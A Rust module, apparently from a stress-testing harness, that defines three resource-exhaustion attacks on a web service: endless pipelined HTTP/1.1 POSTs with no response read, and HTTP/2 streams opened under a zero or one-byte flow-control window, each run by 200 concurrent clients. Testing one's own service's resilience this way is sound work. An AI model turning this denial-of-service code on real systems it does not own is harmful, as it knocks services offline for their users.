//! Clients that ask and never read.

use std::io;
use std::net::Ipv4Addr;

use super::wire::{
    DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PREFACE, drain, frame, head, post,
    send, settings,
};
use super::{Attack, Field};

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "HTTP/1.1 requests in a row, no answer read",
            run: |field| Box::pin(async move { field.swarm(MANY, pipelined).await }),
        },
        Attack {
            name: "HTTP/2 answers without a window",
            run: |field| Box::pin(async move { field.swarm(MANY, without_window).await }),
        },
        Attack {
            name: "HTTP/2 answers with a window of one byte",
            run: |field| Box::pin(async move { field.swarm(MANY, with_a_byte).await }),
        },
    ]
}

async fn pipelined(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let mut stream = field.tls(from, b"http/1.1").await?;
    let review = &field.target.review;
    let request = [post("/mutate", review.len()).as_bytes(), review].concat();
    loop {
        send(&mut stream, &request).await?;
    }
}

async fn without_window(field: Field, from: Ipv4Addr) -> io::Result<()> {
    with_window(field, from, 0).await
}

async fn with_a_byte(field: Field, from: Ipv4Addr) -> io::Result<()> {
    with_window(field, from, 1).await
}

/// Asks on as many streams as there may be; for what needs much work, and for much.
async fn with_window(field: Field, from: Ipv4Addr, window: u32) -> io::Result<()> {
    let mut stream = field.tls(from, b"h2").await?;
    let begun = [PREFACE, &settings(&[(INITIAL_WINDOW_SIZE, window)])].concat();
    send(&mut stream, &begun).await?;
    let (ask, look) = (head("POST", "/mutate"), head("GET", "/metrics"));
    for number in 0..32 {
        let (first, second) = (4 * number + 1, 4 * number + 3);
        let request = [
            frame(HEADERS, END_HEADERS, first, &ask),
            frame(DATA, END_STREAM, first, &field.target.review),
            frame(HEADERS, END_HEADERS | END_STREAM, second, &look),
        ];
        send(&mut stream, &request.concat()).await?;
    }
    drain(&mut stream).await
}

const MANY: usize = 200;
